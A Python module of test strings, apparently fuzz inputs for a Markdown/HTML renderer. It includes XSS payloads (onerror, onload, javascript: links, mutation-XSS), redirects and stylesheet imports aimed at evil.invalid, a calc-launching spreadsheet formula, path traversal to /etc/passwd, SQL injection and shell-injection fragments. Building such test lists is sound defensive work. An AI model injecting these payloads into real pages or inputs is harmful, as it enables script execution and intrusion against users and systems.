"""Strings that have made other programs misbehave, each written for this list, by the syntax that they attack."""

from itertools import product

_TAGS = "script img svg iframe a details style form object marquee video math base embed link audio body input".split()
_EVENTS = ("onerror", "onload", "onclick", "ontoggle", "onfocus", "onmouseover", "onstart", "onanimationend")
_SCHEMES = "javascript:alert(1) data:text/html,x vbscript:x JaVaScRiPt:alert(1) java&#9;script:x //evil.example".split()
_QUOTES = ("'", '"', "`", "”", "&quot;", "\\'")

HTML = [f"<{tag} {event}=alert(1)>" for tag, event in product(_TAGS, _EVENTS)]
_LINKS = ("[x]({})", "![x]({})", "<{}>", "[x]: {}", "<a href='{}'>x</a>")
_MARKS = (">", " onclick=x ", "><b>x</b>", "/>", "-->", "]]>", "\\", "${x}")
ADDRESSES = [link.format(scheme) for scheme, link in product(_SCHEMES, _LINKS)]
BREAKS = [f"{quote}{mark}" for quote, mark in product(_QUOTES, _MARKS)]
MARKDOWN = [
    "# heading", "## heading ##", "> quoted", "    code", "- item", "* item", "+ item", "1. item", "1986. A year",
    "a) item",
    "(iv) item", "***", "---", "___", "===", "x\n===", "~~~ x", "``` x", "`x`", "``x``", "*x*", "**x**", "_x_", "__x__",
    "a*b*c", "a_b_c", "~~x~~", "==x==", "^x^", "^^x^^", "~x~", "++x++", "--x--", "[x]", "[x][]", "[x][y]", "[x](y)",
    "![x](y)", "[^1]", "[^1]: note", "*[x]: y", "[x]: y", "[[x]]", "| a | b |", "a | b\n--- | ---", ": term", "x\n: y",
    "!!! note", "??? x", "???+ x", '=== "x"', "/// x", "{: #x .y }", "{ #x }", "x{: onclick=y }", "# h { onclick=x }",
    "[TOC]", '--8<-- "mkdocs.yml"', ";--8<--", "{{ x }}", "{% x %}", "{# x #}", "${{ x }}", "<%= x %>", ":smile:",
    ":material-door:", "$x$", "$$x$$", "\\(x\\)", "\\[x\\]", "\\\\x", "\\*x\\*", "&amp;", "&lt;b&gt;", "&#60;b&#62;",
    "&#x3c;b&#x3e;",
    "&copy;", "(c)", "(tm)", "1/2", "1st", "...", "--", "---", "->", "<->", "http://example.org", "www.example.org",
    "me@example.org", "<me@example.org>", "@user", "#12", "user/repo#12", "a" * 40, "0123456789abcdef" * 3,
    "<!-- x -->",
    "<!-- x", "-->", "<![ x", "<![CDATA[x]]>", "<?php x ?>", "<?xml x", "<!DOCTYPE x>", "</p>", "</div></div>",
    "</script>",
    "</title><script>x</script>", "</textarea>", "<b", "<b>x", "x</b>", "<br/>", "<hr>", "<x-y>",
    "<math><mi//xlink:href=x>",
    "markdown=1", "<div markdown>x</div>", "<div markdown=1>*x*</div>", "<p markdown='span'>x</p>", "<pre>x",
    "<details>x",
]  # fmt: skip
OTHER = [
    "=cmd|' /C calc'!A0", "+1+1", "-1-1", "@SUM(1)", "\t=1", "=HYPERLINK(1)", "%s%s%n", "%00", "../../../etc/passwd",
    "..\\..\\x", "C:\\x", "/etc/passwd", "file:///x", "con", "NUL", "' OR 1=1 --", "; DROP TABLE x", "$(x)", "`x`",
    "| x", "&& x",
    "@article{x, y={z}}", "\\input{x}", "TY  - JOUR", "ER  - ", "---\ntitle: x\n---", "title: x", "template: 404.html",
    "!!python/object:x", "!ENV x", "&anchor *alias", "null", "true", "NaN", "0x1F", "1e999", "undefined",
    "[object Object]",
    "\u200bx\u200b", "\u202ex\u202c", "\u2066x\u2069", "x\u0301\u0302\u0303", "\ufeffx", "\x00x", "\x02x\x03",
    "\x0bx", "\x1bx", "\x7fx",
    "\x85x",
    "\u2028x", "\u2029x", "\ufffe", "\U000e0041x", "مرحبا (x)", "שלום [x]", "日本語。x", "👩‍👩‍👧 x", "ﷺ", "İı\u017fK",
    "ß",
    "Ω≈ç√∫", "¯\\_(ツ)_/¯", "(╯°□°)╯", "½", "x\u00a0y", "x  y", " x", "x ", "", " ", "\n", "\t", "'", '"', "“”", "«»",
    "’",
]  # fmt: skip
# What does nothing as text and something as soon as a script hands it on as HTML, and what is longer than any label.
LONG = "Supercalifragilisticexpialidociouspneumonoultramicroscopicsilicovolcanoconiosis"
LIVE = [
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)>", "<x-y style=animation-name:x onanimationstart=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">', '<base href="https://evil.invalid/">',
    '<link rel=stylesheet href="https://evil.invalid/x.css">', '<style>@import "https://evil.invalid/x.css";</style>',
    '<iframe srcdoc="<script>alert(1)</script>">', "<script>alert(1)</script>",
    "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    '" onmouseover=alert(1) title="', "' onfocus=alert(1) tabindex=0 '", '"><img src=x onerror=alert(1)>',
    "<javascript:alert(1)>", '<a href="javascript:alert(1)">x</a>',
]  # fmt: skip
STRINGS = [*HTML, *ADDRESSES, *BREAKS, *MARKDOWN, *OTHER, *LIVE]
